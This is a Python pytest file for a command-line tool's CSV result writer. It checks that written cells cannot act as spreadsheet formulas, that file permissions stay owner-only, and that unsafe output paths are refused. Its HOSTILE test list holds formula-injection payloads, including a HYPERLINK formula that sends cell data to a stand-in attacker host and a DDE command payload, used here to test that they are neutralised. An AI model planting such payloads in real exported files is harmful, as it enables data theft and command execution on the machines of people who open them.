"""The result file can be read at every moment, does nothing in a spreadsheet, and never takes the
place of something else."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.cli.result_file import (
    COLUMNS,
    Item,
    ResultFile,
    ResultNotWritten,
    default_result,
    harmless,
)
from gateway.cli.usage import UsageError

GOOD = Item(2, "2345-6789-ABCD", "DELIVERED", False, {})

HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  \t +1", "\u00a0=1",
    "\u200b=1", "\ufeff=1", "\u202e=1", "\x00=1", "＝1", "＋1", "－1", "＠1", "﹦1",
    '"=1', "'=1", '","=1', "a;=1", "a|=1", "a,=1", "a\r\n=1", 'a";"=1', "a; \t-1",
    "=HYPERLINK(\"https://evil.example?x=\"&A1)", "=cmd|'/c calc'!A0", "\ud800=1", "\u2028=1",
]  # fmt: skip
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"


def parts(text: str) -> list[str]:
    """What a spreadsheet may take for cells, whatever it takes for a separator."""
    for separator in ",;|\t\r\n":
        text = text.replace(separator, "\0")
    return [part.strip(' \u00a0"') for part in text.split("\0")]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_no_cell_is_a_formula(text: str, tmp_path: Path) -> None:
    """Not in the form's name of an error key, not in a reason, wherever a separator is seen."""
    assert not any(part.startswith(tuple(SIGNS)) for part in parts(harmless(text)))
    path = tmp_path / "r.csv"
    result = ResultFile(path, "-")
    result.open()
    result.finish([Item(2, text, text, False, {text: text, "b": text})])
    with path.open(encoding="utf-8", newline="") as file:
        header, row = csv.reader(file, strict=True)
    assert tuple(header) == COLUMNS
    assert not any(part.startswith(tuple(SIGNS)) for cell in row for part in parts(cell))
    raw = path.read_text(encoding="utf-8")
    assert all(line.startswith('"') and line.endswith('"') for line in raw.splitlines())


@given(st.text(max_size=40))
def test_no_text_is_a_formula(text: str) -> None:
    """Whatever the text is."""
    assert not any(part.startswith(tuple(SIGNS)) for part in parts(harmless(text)))


def test_ordinary_texts_stay() -> None:
    """Sentences and receipts are shown as they are."""
    for text in (
        "2345-6789-ABCD",
        "Write it like +44 20 7946 0000.",
        "0-2/name: Choose again.",
        "",
    ):
        assert harmless(text) == text


def test_every_moment_is_readable(tmp_path: Path) -> None:
    """After each row the file holds whole rows, for its owner only; nothing else is left."""
    path = tmp_path / "r.csv"
    result = ResultFile(path, "-")
    result.open()
    for number in range(1, 4):
        result.add(GOOD)
        with path.open(encoding="utf-8", newline="") as file:
            assert len(list(csv.reader(file, strict=True))) == number + 1
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    result.finish([GOOD, GOOD])
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert len(path.read_text().splitlines()) == 3
    assert [file.name for file in tmp_path.iterdir()] == ["r.csv"]


def test_an_earlier_result_is_replaced(tmp_path: Path) -> None:
    """The same command again writes its result anew, under any earlier permissions."""
    path = tmp_path / "r.csv"
    for _ in range(2):
        result = ResultFile(path, "-")
        result.open()
        result.finish([GOOD])
        path.chmod(0o644)
    result = ResultFile(path, "-")
    result.open()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    result.close()


def test_paths_that_are_refused(tmp_path: Path) -> None:
    """A folder, a link, the CSV file under any name, a pipe, and a file that is none of ours."""
    source = tmp_path / "rows.csv"
    source.write_text("firstname\nAda\n")
    (tmp_path / "same.csv").hardlink_to(source)
    (tmp_path / "link.csv").symlink_to(tmp_path / "elsewhere.csv")
    (tmp_path / "other.csv").write_text("a letter to my mother")
    os.mkfifo(tmp_path / "pipe.csv")
    told = {"rows.csv": "itself", "same.csv": "itself", "link.csv": "a link", "": "a folder",
            "other.csv": "something else", "pipe.csv": "something else"}  # fmt: skip
    for name, words in told.items():
        with pytest.raises(UsageError, match=words):
            ResultFile(tmp_path / name, str(source))
    for name in ("nowhere/r.csv", "a\0b", "x" * 5000):
        with pytest.raises(UsageError, match="cannot be written"):
            ResultFile(tmp_path / name, "-").open()
    assert source.read_text() == "firstname\nAda\n"
    assert not (tmp_path / "elsewhere.csv").exists()


def test_a_disk_that_fails(tmp_path: Path) -> None:
    """It is told as such, and the rows that were written stay."""
    folder = tmp_path / "folder"
    folder.mkdir()
    result = ResultFile(folder / "r.csv", "-")
    result.open()
    result.add(GOOD)
    (folder / "r.csv").rename(tmp_path / "kept.csv")
    folder.rmdir()
    with pytest.raises(ResultNotWritten, match="nothing is sent twice"):
        result.finish([GOOD])
    assert len((tmp_path / "kept.csv").read_text().splitlines()) == 2


def test_the_default_name(tmp_path: Path) -> None:
    """It stands beside the CSV file; standard input has no name to stand beside."""
    assert default_result(str(tmp_path / "patients.csv")) == tmp_path / "patients.result.csv"
    with pytest.raises(UsageError, match="--result"):
        default_result("-")
